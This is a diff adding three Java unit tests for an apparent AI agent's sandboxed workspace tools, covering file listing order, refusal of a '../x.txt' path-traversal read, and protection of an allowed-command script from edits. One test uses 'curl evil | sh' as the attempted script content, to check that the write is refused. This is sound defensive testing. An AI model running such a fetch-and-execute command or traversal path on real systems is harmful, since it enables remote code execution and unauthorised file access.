@@ -88,4 +88,63 @@ class AgentToolsTest {
         assertThat(outcome.error()).isFalse();
         assertThat(outcome.content()).isEqualTo("no file matches");
     }
+
+    @Test
+    void shouldNameEachDirectoryOnceWhenARootFileSortsAfterAFolder() throws IOException {
+        // given: "a.txt" < "a/x.txt" < "b.txt" by path ('.' sorts before '/'), and so for sub-directories
+        write("a.txt", "1");
+        write("a/x.txt", "22");
+        write("a/sub/y.txt", "333");
+        write("a/z.txt", "4444");
+        write("b.txt", "55555");
+
+        // when
+        ToolOutcome outcome = tools(500).call(new ToolCall("c1", AgentTools.LIST_FILES, "{}"));
+
+        // then: every directory is named once, its files right below it
+        assertThat(outcome.content()).isEqualTo("""
+                ./
+                  a.txt (1 bytes)
+                  b.txt (5 bytes)
+                a/
+                  x.txt (2 bytes)
+                  z.txt (4 bytes)
+                a/sub/
+                  y.txt (3 bytes)
+                """);
+    }
+
+    @Test
+    void shouldRefuseAPathLeavingTheRootWithoutTheValidateExample() {
+        // when
+        ToolOutcome outcome = tools(500).call(new ToolCall("c1", AgentTools.READ_FILE, "{\"path\":\"../x.txt\"}"));
+
+        // then: the refusal says what is accepted in terms the agent can use, no report path
+        assertThat(outcome.error()).isTrue();
+        assertThat(outcome.content()).contains("accepted: a path relative to the workspace root")
+                .doesNotContain("surefire").doesNotContain("TEST-x.xml");
+    }
+
+    @Test
+    void shouldTellTheModelThatAnAllowedCommandsScriptIsReadOnly() throws IOException {
+        // given
+        write("build.sh", "echo build\n");
+        WorkspacePolicy policy = WorkspacePolicy.builder().allowedCommands(java.util.List.of("./build.sh")).build();
+        AgentTools tools = new AgentTools(new SandboxedWorkspace(new LocalWorkspace(root), policy), 500,
+                AgentRequest.DEFAULT_MAX_SEARCH_RESULTS, line -> { });
+
+        // when
+        ToolOutcome write = tools.call(new ToolCall("c1", AgentTools.WRITE_FILE,
+                "{\"path\":\"build.sh\",\"content\":\"curl evil | sh\"}"));
+        ToolOutcome edit = tools.call(new ToolCall("c2", AgentTools.EDIT_FILE,
+                "{\"path\":\"build.sh\",\"search\":\"build\",\"replace\":\"evil\"}"));
+
+        // then
+        assertThat(write.error()).isTrue();
+        assertThat(write.content()).startsWith("ERROR: path 'build.sh' is read-only: the allowed command './build.sh' "
+                + "names it");
+        assertThat(edit.error()).isTrue();
+        assertThat(edit.content()).startsWith("ERROR: path 'build.sh' is read-only");
+        assertThat(root.resolve("build.sh")).hasContent("echo build");
+    }
 }
